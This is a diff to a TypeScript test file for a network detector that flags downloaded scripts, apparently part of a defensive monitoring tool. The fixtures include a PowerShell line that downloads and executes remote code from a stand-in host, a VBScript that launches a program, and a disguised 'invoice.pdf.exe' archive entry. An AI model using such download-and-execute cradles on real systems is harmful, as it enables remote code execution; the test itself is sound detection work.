@@ -1,5 +1,6 @@
 import { expect, test } from 'vitest'
 import { TrafficScript } from '../../../test/traffic-script.ts'
+import { zipText } from '../../../test/zip-text.ts'
 import { loaderDownload } from './loader-download.ts'
 
 const browser = 'Mozilla/5.0 (Windows NT 10.0) Firefox/140.0'
@@ -7,10 +8,6 @@ const powerShell = 'Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/
 const loader = `$c=New-Object Net.WebClient;IEX $c.DownloadString('http://x/b')`
 const hostScript = `Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"`
 const shortcut = `L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F${'\0'.repeat(60)}`
-
-/** An archive whose first entry has this name. */
-const archive = (name: string) =>
-  `PK\x03\x04${'\0'.repeat(22)}${String.fromCharCode(name.length)}\0\0\0${name}.txt${'x'.repeat(80)}`
 
 interface Download {
   readonly body: string
@@ -46,8 +43,9 @@ test.each<[string, Download, string]>([
   ],
   ['a script that runs programs, with no agent', { body: hostScript, agent: '' }, 'medium'],
   ['a shortcut', { body: shortcut }, 'medium'],
-  ['an archive of a script', { body: archive('invoice_82.js') }, 'medium'],
-  ['an archive of a disguised program', { body: archive('invoice.pdf.exe') }, 'medium'],
+  ['an archive of a script', { body: zipText('invoice_82.js') }, 'medium'],
+  ['an archive of a script with a long name', { body: zipText(`${'x'.repeat(300)}.js`) }, 'medium'],
+  ['an archive of a disguised program', { body: zipText('invoice.pdf.exe') }, 'medium'],
 ])('%s is found', (_, download, severity) => {
   expect(fetch(download)).toEqual([`${severity} script_download`])
 })
@@ -56,8 +54,8 @@ test.each<[string, Download]>([
   ['a script that a browser shows', { body: loader, type: 'text/plain' }],
   ['a page about scripts, by a tool', { body: `<html>${loader}`, agent: 'curl/8.5.0' }],
   ['a script that runs programs, inside', { body: hostScript, agent: '', to: '10.0.0.9:80' }],
-  ['an archive of a site', { body: archive('site/main.js') }],
-  ['an archive of a program', { body: archive('setup.exe') }],
+  ['an archive of a site', { body: zipText('site/main.js') }],
+  ['an archive of a program', { body: zipText('setup.exe') }],
   ['a text without commands', { body: 'hello world', agent: '' }],
 ])('%s is not', (_, download) => {
   expect(fetch(download)).toEqual([])
